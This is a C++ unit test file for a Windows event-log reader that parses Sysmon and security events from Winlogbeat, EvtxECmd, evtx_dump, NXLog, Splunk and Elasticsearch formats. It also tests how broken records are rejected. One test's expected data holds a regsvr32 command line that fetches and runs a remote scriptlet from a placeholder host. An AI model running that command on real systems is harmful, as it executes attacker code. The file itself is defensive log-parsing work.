// JSON reader: shipper layouts mapped onto Windows names, record splitting, damage.
#include <gtest/gtest.h>

#include <algorithm>
#include <iterator>
#include <string>

#include "io_test_util.h"

namespace splinter::io::testing {
namespace {

std::vector<StoredEvent> read_json_text(const std::string& text, CollectSink& s, FileStats* out = nullptr) {
  TempDir d;
  auto stats = read_inputs({d.file("x.json", text)}, s);
  if (out) *out = stats.at(0);
  return s.events;
}

TEST(IoJsonCases, C17ThreeShippersAgree) {
  std::string p = shared_dir() + "/cases/C17.jsonl";
  if (slurp(p).empty()) GTEST_SKIP() << "shared cases absent";
  CollectSink s;
  auto stats = read_inputs({p}, s);
  ASSERT_EQ(stats.size(), 1u);
  EXPECT_EQ(stats[0].format, Format::Json);
  EXPECT_EQ(stats[0].parsed, 3u);
  EXPECT_EQ(stats[0].rejected, 0u);
  ASSERT_EQ(s.events.size(), 3u);
  const int64_t second = utc_us(2024, 5, 16, 9, 20, 11);
  for (const auto& e : s.events) {
    SCOPED_TRACE(e.line);
    EXPECT_EQ(e.at("EventID"), "1");
    EXPECT_EQ(e.format, EventFormat::Json);
    EXPECT_EQ(e.at("EventCode"), "1");
    EXPECT_EQ(e.at("Computer"), "WS01");
    EXPECT_EQ(e.at("CommandLine"), "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
    EXPECT_EQ(e.at("Image"), "C:\\Windows\\System32\\regsvr32.exe");
    EXPECT_EQ(e.at("OriginalFileName"), "REGSVR32.EXE");
    EXPECT_EQ(e.at("ParentCommandLine"), "C:\\Windows\\system32\\cmd.exe /c deploy.bat");
    EXPECT_EQ(e.at("ParentImage"), "C:\\Windows\\System32\\cmd.exe");
    EXPECT_EQ(e.at("User"), "CORP\\alice");
    EXPECT_EQ(e.at("Channel"), "Microsoft-Windows-Sysmon/Operational");
    EXPECT_EQ(e.at("ProviderName"), "Microsoft-Windows-Sysmon");
    ASSERT_NE(e.time_us, kNoTime);
    EXPECT_EQ((e.time_us - second) / 1000000, 0) << e.time_us - second;
  }
  EXPECT_EQ(s.events[0].at("EventRecordID"), "5001");
  EXPECT_EQ(s.events[1].at("EventRecordID"), "5002");
  EXPECT_EQ(s.events[2].at("EventRecordID"), "5003");
  EXPECT_EQ(s.events[0].at("UserID"), "S-1-5-18");
  EXPECT_EQ(s.events[1].at("ProcessId"), "6121");  // from ECS process.pid
  EXPECT_EQ(s.events[0].time_us, second + 529000);  // Sysmon UtcTime
  EXPECT_EQ(s.events[1].time_us, second + 532000);  // @timestamp (no UtcTime in event_data)
  // Shipper names stay available as dotted paths, after the canonical fields.
  EXPECT_EQ(s.events[0].at("winlog.event_data.CommandLine"),
            "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.events[1].at("process.command_line"),
            "regsvr32.exe /s /i:http://cdn.example.test/a.sct scrobj.dll");
  EXPECT_EQ(s.events[1].at("process.args{}"), "regsvr32.exe");
  EXPECT_EQ(s.events[1].count("process.args{}"), 4u);
  EXPECT_EQ(s.events[2].at("Hostname"), "WS01");
  EXPECT_EQ(s.events[2].count("CommandLine"), 1u);
}

// EvtxECmd CSV: a damaged row (cells missing, a quote never closed) is rejected with
// its line and the rows after it are still read; a UserData payload is expanded; a CSV
// that is not EvtxECmd's (a lookup table beside the logs) is not read as events.
TEST(IoJson, EvtxECmdCsvDamageAndUserData) {
  const std::string header = "RecordNumber,TimeCreated,EventId,Provider,Channel,Computer,Payload\r\n";
  const std::string user_data =
      "\"{\"\"UserData\"\":{\"\"LogFileCleared\"\":{\"\"@xmlns\"\":\"\"http://x\"\",\"\"SubjectUserName\"\":\"\"bob\"\"}}}\"";
  const std::string event_data = "\"{\"\"EventData\"\":{\"\"Data\"\":{\"\"@Name\"\":\"\"Image\"\",\"\"#text\"\":\"\"C:\\\\a.exe\"\"}}}\"";
  const std::string text = header + "1,2024-01-02 03:04:05.0000000,1102,Microsoft-Windows-Eventlog,Security,H1," +
                           user_data + "\r\n" +
                           "2,2024-01-02 03:04:06.0000000,1,Microsoft-Windows-Sysmon\r\n" +  // cells missing
                           "3,2024-01-02 03:04:07.0000000,1,Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,H2," +
                           event_data + "\r\n" + "4,2024-01-02 03:04:08.0000000,1,P,C,H3,\"{never closed\r\n";
  TempDir d;
  CollectSink s;
  auto stats = read_inputs({d.file("EvtxECmd_Output.csv", text)}, s);
  ASSERT_EQ(stats.size(), 1u);
  EXPECT_EQ(stats[0].format, Format::Csv);
  EXPECT_EQ(stats[0].read, 4u);
  EXPECT_EQ(stats[0].parsed, 2u);
  EXPECT_EQ(stats[0].rejected, 2u);
  ASSERT_EQ(s.events.size(), 2u);
  EXPECT_EQ(s.events[0].at("EventID"), "1102");
  EXPECT_EQ(s.events[0].at("SubjectUserName"), "bob");
  EXPECT_EQ(s.events[0].get("@xmlns"), nullptr);
  EXPECT_EQ(s.events[0].time_us, utc_us(2024, 1, 2, 3, 4, 5));
  EXPECT_EQ(s.events[1].at("Image"), "C:\\a.exe");
  EXPECT_EQ(s.events[1].at("Computer"), "H2");
  EXPECT_EQ(s.events[1].line, 4u);
  ASSERT_EQ(s.problems.size(), 2u);
  EXPECT_EQ(s.problems[0].line, 3u);
  EXPECT_NE(s.problems[0].what.find("CSV row has 4 cells, the header 7"), std::string::npos) << s.problems[0].what;
  EXPECT_EQ(s.problems[1].line, 5u);
  EXPECT_NE(s.problems[1].what.find("unterminated quote"), std::string::npos) << s.problems[1].what;

  // Found walking a directory: another CSV is skipped, not read as events.
  CollectSink other;
  d.file("dir/lookup.csv", "name,value\r\na,b\r\n");
  d.file("dir/EvtxECmd_Output.csv", header + "1,2024-01-02 03:04:05,4688,P,Security,H," + event_data + "\r\n");
  auto st2 = read_inputs({d.path() + "/dir"}, other);
  EXPECT_EQ(other.events.size(), 1u);
  EXPECT_TRUE(other.problems.empty());
}

// Found by a new user: one stray quote in an EvtxECmd CSV ran on into the rows after it,
// which were lost. Only the broken row is rejected now; rows after it (one with a
// legitimate multi-line quoted cell) are read.
TEST(IoJson, EvtxECmdCsvStrayQuoteLosesOnlyItsRow) {
  const std::string header = "RecordNumber,TimeCreated,EventId,Provider,Channel,Computer,ExecutableInfo,Payload\r\n";
  auto row = [](int n, const std::string& exe) {
    return std::to_string(n) + ",2024-01-02 03:04:0" + std::to_string(n) +
           ",1,Microsoft-Windows-Sysmon,Microsoft-Windows-Sysmon/Operational,H" + std::to_string(n) + "," + exe +
           ",\"{\"\"EventData\"\":{\"\"Data\"\":{\"\"@Name\"\":\"\"Image\"\",\"\"#text\"\":\"\"a.exe\"\"}}}\"\r\n";
  };
  const std::string text = header + row(1, "one") + row(2, "\"broken start") + row(3, "three") +
                           row(4, "\"two\r\nlines\"") + row(5, "five");
  for (const std::string& t : {text, text + "6,\"never closed\r\n"}) {
    TempDir d;
    CollectSink s;
    auto stats = read_inputs({d.file("EvtxECmd.csv", t)}, s);
    ASSERT_EQ(s.events.size(), 4u);
    EXPECT_EQ(s.events[0].at("Computer"), "H1");
    EXPECT_EQ(s.events[1].at("Computer"), "H3");
    EXPECT_EQ(s.events[1].line, 4u);
    EXPECT_EQ(s.events[2].at("ExecutableInfo"), "two\r\nlines");
    EXPECT_EQ(s.events[3].at("Computer"), "H5");
    ASSERT_GE(s.problems.size(), 1u);
    EXPECT_EQ(s.problems[0].line, 3u);
    EXPECT_EQ(stats[0].parsed, 4u);
    EXPECT_EQ(stats[0].rejected, s.problems.size());
  }
}

TEST(IoJson, EvtxDumpLayout) {
  std::string text = R"({
  "Event": {
    "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
    "System": {
      "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "54849625"}},
      "EventID": {"#text": 4688, "#attributes": {"Qualifiers": 0}},
      "TimeCreated": {"#attributes": {"SystemTime": "2025-11-27T07:40:10.165324Z"}},
      "EventRecordID": 571146, "Correlation": null,
      "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 8}},
      "Channel": "Security", "Computer": "dc01",
      "Security": {"#attributes": {"UserID": "S-1-5-18"}}
    },
    "EventData": {"NewProcessName": "C:\\x\\a.exe", "CommandLine": "a \"b\"", "Flag": true, "Nothing": null,
                  "Ratio": 2.5}
  }
}
{"Event": {"System": {"EventID": 1102, "Computer": "h"}, "EventData": null,
           "UserData": {"LogFileCleared": {"#attributes": {"xmlns": "x"}, "SubjectUserName": "bob"}}}}
{"Event": {"System": {"EventID": 7045}, "EventData": {"Data": [{"#attributes": {"Name": "ServiceName"}, "#text": "svc"}, "loose"]}}}
)";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 3u) << (s.problems.empty() ? "" : s.problems[0].what);
  EXPECT_EQ(ev[0].at("EventID"), "4688");
  EXPECT_EQ(ev[0].at("EventCode"), "4688");
  EXPECT_EQ(ev[0].at("ProviderName"), "Microsoft-Windows-Security-Auditing");
  EXPECT_EQ(ev[0].at("SystemTime"), "2025-11-27T07:40:10.165324Z");
  EXPECT_EQ(ev[0].at("EventRecordID"), "571146");
  EXPECT_EQ(ev[0].at("ProcessID"), "4");
  EXPECT_EQ(ev[0].at("UserID"), "S-1-5-18");
  EXPECT_EQ(ev[0].at("Computer"), "dc01");
  EXPECT_EQ(ev[0].at("CommandLine"), "a \"b\"");  // decoded JSON string
  EXPECT_EQ(ev[0].at("NewProcessName"), "C:\\x\\a.exe");
  EXPECT_EQ(ev[0].at("Flag"), "true");
  EXPECT_EQ(ev[0].at("Ratio"), "2.5");
  EXPECT_EQ(ev[0].get("Nothing"), nullptr);
  EXPECT_EQ(ev[0].time_us, utc_us(2025, 11, 27, 7, 40, 10) + 165324);
  EXPECT_EQ(ev[0].line, 1u);
  EXPECT_EQ(ev[1].line, 1u + uint64_t(std::count(text.begin(), text.begin() + text.find("{\"Event\": {\"System\""), '\n')));
  EXPECT_EQ(ev[1].at("SubjectUserName"), "bob");
  EXPECT_EQ(ev[1].get("xmlns"), nullptr);
  EXPECT_EQ(ev[2].at("ServiceName"), "svc");
  EXPECT_EQ(ev[2].at("Data"), "loose");
  EXPECT_EQ(ev[2].time_us, kNoTime);
}

TEST(IoJson, TopLevelArrayAndWinlogbeat6) {
  std::string text = R"([
  {"@timestamp": "2019-05-18T20:36:46.254Z", "event_id": 3, "computer_name": "W6", "log_name": "Microsoft-Windows-Sysmon/Operational",
   "source_name": "Microsoft-Windows-Sysmon", "record_number": "42", "event_data": {"Image": "C:\\a.exe"},
   "user": {"identifier": "S-1-5-18", "domain": "NT AUTHORITY", "name": "SYSTEM"}},
  {"EventTime": "2024-05-16 11:20:11", "EventID": 4624, "Hostname": "N1", "TargetUserName": "x", "Nested": {"a": 1}}
])";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 2u) << (s.problems.empty() ? "" : s.problems[0].what);
  // Only the NXLog record's time is in doubt: its EventTime has no zone.
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_TRUE(s.problems[0].warning);
  EXPECT_EQ(s.problems[0].what, "1 event(s) took _time from EventTime, which has no time zone; read as UTC");
  EXPECT_EQ(s.problems[0].line, 5u);
  EXPECT_EQ(ev[0].at("EventID"), "3");
  EXPECT_EQ(ev[0].at("Computer"), "W6");
  EXPECT_EQ(ev[0].at("Channel"), "Microsoft-Windows-Sysmon/Operational");
  EXPECT_EQ(ev[0].at("ProviderName"), "Microsoft-Windows-Sysmon");
  EXPECT_EQ(ev[0].at("EventRecordID"), "42");
  EXPECT_EQ(ev[0].at("UserID"), "S-1-5-18");
  EXPECT_EQ(ev[0].at("Image"), "C:\\a.exe");
  EXPECT_EQ(ev[0].get("User"), nullptr);  // no ECS join for Winlogbeat 6
  EXPECT_EQ(ev[0].time_us, utc_us(2019, 5, 18, 20, 36, 46) + 254000);
  EXPECT_EQ(ev[1].at("EventID"), "4624");
  EXPECT_EQ(ev[1].at("Computer"), "N1");
  EXPECT_EQ(ev[1].at("TargetUserName"), "x");
  EXPECT_EQ(ev[1].at("Nested.a"), "1");
  EXPECT_EQ(ev[1].time_us, utc_us(2024, 5, 16, 11, 20, 11));  // only EventTime available
  EXPECT_EQ(ev[1].line, 5u);
}

TEST(IoJson, BrokenRecordsRejectedAndNextRead) {
  std::string text =
      "{\"EventID\": 1, \"A\": \"ok\"}\n"
      "{\"EventID\": 2, \"A\": \"cut\n"
      "{\"EventID\": 3, \"A\": \"ok3\"}\n"
      "{\"EventID\": 4, \"A\": [1,2}\n"
      "not json at all\n"
      "{\"EventID\": 5, \"A\": {\"b\": 1}\n"
      "{\"EventID\": 6}\n"
      "{\"EventID\": 7, \"A\": \"tail";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 3u);
  EXPECT_EQ(ev[0].at("EventID"), "1");
  EXPECT_EQ(ev[1].at("EventID"), "3");
  EXPECT_EQ(ev[1].line, 3u);
  EXPECT_EQ(ev[2].at("EventID"), "6");
  EXPECT_EQ(ev[2].line, 7u);
  // Line 4's unbalanced record swallows the junk line 5 until the next column-0 '{'.
  ASSERT_EQ(s.problems.size(), 4u);
  EXPECT_EQ(s.problems[0].line, 2u);
  EXPECT_EQ(s.problems[1].line, 4u);
  EXPECT_EQ(s.problems[2].line, 6u);
  EXPECT_EQ(s.problems[3].line, 8u);
  EXPECT_EQ(s.problems[3].offset, text.rfind('{'));
  EXPECT_EQ(st.read, 7u);
  EXPECT_EQ(st.parsed, 3u);
  EXPECT_EQ(st.rejected, 4u);
}

// A winlogbeat 7 Sysmon 1 document; extra is spliced into the top level.
std::string wlb(const std::string& pid, const std::string& extra = "") {
  return R"({"@timestamp": "2024-05-16T09:20:11.532Z", "agent": {"type": "winlogbeat"}, )" + extra +
         R"("winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, )"
         R"("provider_name": "Microsoft-Windows-Sysmon", "event_data": {"ProcessId": ")" +
         pid + R"(", "Image": "C:\\a.exe"}}})";
}

// Bug: one non-object element of a one-line array made every later element vanish
// uncounted (the reader resynchronised on the next line). Each such element is one
// rejected record at its own offset; the rest of the array is read.
TEST(IoJson, ArrayNonObjectElementsRejectedOneEach) {
  const std::string text = "[" + wlb("1") + ", null, 12.5, \"a,]\\\"b\", [" + wlb("9") + ", 3], true, " + wlb("2") +
                           ", {}]\n" + "[" + wlb("4") + ",\n  \"x\"\n, " + wlb("5") + "]";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 5u);
  EXPECT_EQ(ev[0].at("ProcessId"), "1");
  EXPECT_EQ(ev[1].at("ProcessId"), "2");
  EXPECT_EQ(ev[2].get("EventID"), nullptr);  // {}: read, and warned about below
  EXPECT_EQ(ev[3].at("ProcessId"), "4");
  EXPECT_EQ(ev[4].at("ProcessId"), "5");
  EXPECT_EQ(ev[4].line, 4u);
  EXPECT_EQ(st.read, 11u);
  EXPECT_EQ(st.rejected, 6u);
  std::vector<std::string> errors;
  for (const auto& p : s.problems)
    if (!p.warning) {
      errors.push_back(p.what);
      EXPECT_EQ(p.records, 1u);
    }
  const std::string want[] = {"null", "a number", "a string", "an array", "a boolean", "a string"};
  ASSERT_EQ(errors.size(), std::size(want));
  for (size_t i = 0; i < errors.size(); ++i)
    EXPECT_EQ(errors[i], "expected a JSON object, found " + want[i] + " (array element skipped)");
  EXPECT_EQ(s.problems[0].offset, text.find("null"));
  EXPECT_EQ(s.problems[2].offset, text.find("\"a,]"));
  EXPECT_EQ(s.problems[3].offset, text.find("[", 1));
  EXPECT_EQ(s.problems[5].line, 3u);
}

// JSON text with `"` and `\` escaped, for embedding event text in a JSON string.
std::string json_str(const std::string& v) {
  std::string o = "\"";
  for (char c : v) {
    if (c == '"' || c == '\\') o += '\\';
    if (c == '\n') o += "\\n";
    else if (c == '\r') o += "\\r";
    else o += c;
  }
  return o + "\"";
}

const std::string kXmlEvent =
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider "
    "Name='Microsoft-Windows-Sysmon' Guid='{5770385f}'/><EventID>1</EventID><TimeCreated "
    "SystemTime='2024-05-14T09:15:02.4471234Z'/><EventRecordID>7</EventRecordID><Execution ProcessID='3160' "
    "ThreadID='4412'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS01</Computer><Security "
    "UserID='S-1-5-18'/></System><EventData><Data Name='CommandLine'>a.exe &quot;C:\\x y&quot;</Data><Data "
    "Name='Image'>C:\\a.exe</Data></EventData></Event>";

const std::string kClassicEvent =
    "05/14/2024 09:15:02 AM\r\nLogName=Security\r\nSourceName=Microsoft Windows security auditing.\r\n"
    "EventCode=4688\r\nComputerName=WS01\r\nRecordNumber=99\r\nMessage=A new process has been created.\r\n";

// Splunk's JSON export rows (also as the REST API's {"result":..}) and HEC payloads
// carry the indexed text: it is read as the XML or classic reader reads it.
TEST(IoJson, SplunkExportRawReadAsTheTextReadersDo) {
  CollectSink xs;
  TempDir d;
  read_inputs({d.file("x.xml", kXmlEvent + "\n" + kClassicEvent)}, xs);
  ASSERT_EQ(xs.events.size(), 2u);
  const std::string x = json_str(kXmlEvent), c = json_str(kClassicEvent);
  const std::string text =
      R"({"_raw": )" + x + R"(, "sourcetype": "XmlWinEventLog", "host": "WS01", "_time": "1715678102"})" + "\n" +
      R"({"preview": false, "offset": 0, "result": {"_raw": )" + x + R"(, "_time": "2024-05-14T09:15:02.000+00:00"}})" +
      "\n" + R"({"time": 1715678102, "event": )" + x + R"(, "sourcetype": "XmlWinEventLog"})" + "\n" +
      R"({"_raw": )" + c + R"(, "sourcetype": "WinEventLog"})" + "\n" +
      R"({"_raw": "Jan 1 00:00:00 host sshd[1]: hello"})" + "\n" +
      R"({"_raw": "<Event><System><EventID>1</EventID></System>"})" + "\n";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 4u);
  for (size_t i = 0; i < 4; ++i) {
    SCOPED_TRACE(i);
    const StoredEvent& want = xs.events[i < 3 ? 0 : 1];
    ASSERT_EQ(ev[i].fields.size(), want.fields.size());
    for (size_t k = 0; k < want.fields.size(); ++k) {
      EXPECT_EQ(ev[i].fields[k].name, want.fields[k].name);
      EXPECT_EQ(ev[i].fields[k].value, want.fields[k].value);
    }
    EXPECT_EQ(ev[i].time_us, want.time_us);
    EXPECT_EQ(ev[i].format, want.format);
    EXPECT_EQ(ev[i].line, i + 1);
  }
  EXPECT_EQ(ev[0].at("CommandLine"), "a.exe &quot;C:\\x y&quot;");  // entities kept, as in XML
  EXPECT_EQ(ev[3].format, EventFormat::Classic);
  EXPECT_EQ(st.read, 6u);
  EXPECT_EQ(st.rejected, 2u);
  ASSERT_EQ(s.problems.size(), 2u);
  EXPECT_EQ(s.problems[0].what, "_raw holds neither an XML <Event> nor a classic WinEventLog record");
  EXPECT_EQ(s.problems[0].line, 5u);
  EXPECT_EQ(s.problems[1].what, "in _raw: malformed XML: unclosed <Event>");
  EXPECT_EQ(s.problems[1].line, 6u);
}

// Elasticsearch: a dump line's _source is the document, a _search response's hits are
// events; and a Winlogbeat document without winlog.event_id takes ECS event.code.
TEST(IoJson, ElasticsearchWrappersAndEcsEventCode) {
  std::string no_id = wlb("7", R"("event": {"code": "1", "provider": "Microsoft-Windows-Sysmon"}, )");
  no_id.erase(no_id.find("\"event_id\": 1, "), 15);
  const std::string text = R"({"_index": "winlogbeat-7", "_id": "a", "_source": )" + wlb("1") + "}\n" +
                           R"({"took": 3, "hits": {"total": {"value": 3}, "hits": [)" +
                           "\n {\"_index\": \"w\", \"_source\": " +
                           wlb("2") + "},\n {\"_source\": " + no_id + "}, 5]}}\n" +
                           wlb("3", R"("event": {"code": "4624"}, )") + "\n" +
                           R"({"event": {"code": "4624", "provider": "Microsoft-Windows-Security-Auditing"}, )"
                           R"("message": "x"})";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 5u);
  EXPECT_EQ(ev[0].at("ProcessId"), "1");
  EXPECT_EQ(ev[0].at("EventID"), "1");
  EXPECT_EQ(ev[0].at("winlog.event_data.Image"), "C:\\a.exe");  // paths inside _source
  EXPECT_EQ(ev[0].get("_index"), nullptr);
  EXPECT_EQ(ev[0].time_us, utc_us(2024, 5, 16, 9, 20, 11) + 532000);
  EXPECT_EQ(ev[1].at("ProcessId"), "2");
  EXPECT_EQ(ev[1].line, 2u);
  EXPECT_EQ(ev[2].at("ProcessId"), "7");
  EXPECT_EQ(ev[2].at("EventID"), "1");  // from event.code
  EXPECT_EQ(ev[2].at("EventCode"), "1");
  EXPECT_EQ(ev[3].at("EventID"), "1");  // winlog.event_id beats event.code
  EXPECT_EQ(ev[3].at("ProcessId"), "3");
  // Not a Winlogbeat document: event.code is some other source's code.
  EXPECT_EQ(ev[4].get("EventID"), nullptr);
  EXPECT_EQ(ev[4].at("event.code"), "4624");
  EXPECT_EQ(st.read, 6u);
  EXPECT_EQ(st.rejected, 1u);
  ASSERT_EQ(s.problems.size(), 2u);
  EXPECT_EQ(s.problems[0].what, "expected a JSON object in hits.hits");
  EXPECT_TRUE(s.problems[1].warning);
  EXPECT_EQ(s.problems[1].line, 6u);
}

// Records in no Windows layout are read (raw searches see them) but said, once per file.
TEST(IoJson, RecordsInNoWindowsLayoutAreWarnedOncePerFile) {
  const std::string text = wlb("1") + "\n" + R"({"foo": "bar", "@timestamp": "2024-05-16T09:20:11Z"})" +
                           "\n{}\n" + wlb("2") + "\n";
  CollectSink s;
  FileStats st;
  auto ev = read_json_text(text, s, &st);
  ASSERT_EQ(ev.size(), 4u);
  EXPECT_EQ(ev[1].at("foo"), "bar");
  EXPECT_EQ(st.parsed, 4u);
  EXPECT_EQ(st.rejected, 0u);
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_TRUE(s.problems[0].warning);
  EXPECT_EQ(s.problems[0].line, 2u);
  EXPECT_EQ(s.problems[0].offset, text.find("{\"foo\""));
  EXPECT_EQ(s.problems[0].what,
            "2 JSON record(s) in no recognised Windows event layout (first at line 2): no EventID, so no CIM data "
            "model sees them");
}

// NXLog: a numeric @timestamp is epoch seconds or milliseconds; a zone-less EventTime
// is still read as UTC, but said once per file.
TEST(IoJson, NxlogNumericTimestampAndZonelessEventTime) {
  auto nx = [](const std::string& extra) {
    return R"({"EventTime": "2024-05-16 13:10:09", "EventID": 4688, "Channel": "Security")" + extra + "}\n";
  };
  const std::string text = nx(R"(, "@timestamp": 1715857809812)") + nx(R"(, "@timestamp": 1715857809)") +
                           nx(R"(, "@timestamp": 1715857809.25)") + nx(R"(, "@timestamp": "1715857809812")") +
                           nx("") + nx("") + nx(R"(, "@timestamp": "soon")");
  CollectSink s;
  auto ev = read_json_text(text + R"({"EventTime": "2024-05-16T13:10:09+02:00", "EventID": 1})" + "\n", s);
  ASSERT_EQ(ev.size(), 8u);
  const int64_t t = utc_us(2024, 5, 16, 11, 10, 9);
  EXPECT_EQ(ev[0].time_us, t + 812000);
  EXPECT_EQ(ev[1].time_us, t);
  EXPECT_EQ(ev[2].time_us, t + 250000);
  EXPECT_EQ(ev[3].time_us, t + 812000);
  EXPECT_EQ(ev[4].time_us, utc_us(2024, 5, 16, 13, 10, 9));  // local time, read as UTC
  EXPECT_EQ(ev[6].time_us, utc_us(2024, 5, 16, 13, 10, 9));
  EXPECT_EQ(ev[7].time_us, t);  // an offset: no doubt
  ASSERT_EQ(s.problems.size(), 1u);
  EXPECT_TRUE(s.problems[0].warning);
  EXPECT_EQ(s.problems[0].line, 5u);
  EXPECT_EQ(s.problems[0].what, "3 event(s) took _time from EventTime, which has no time zone; read as UTC");
}

}  // namespace
}  // namespace splinter::io::testing
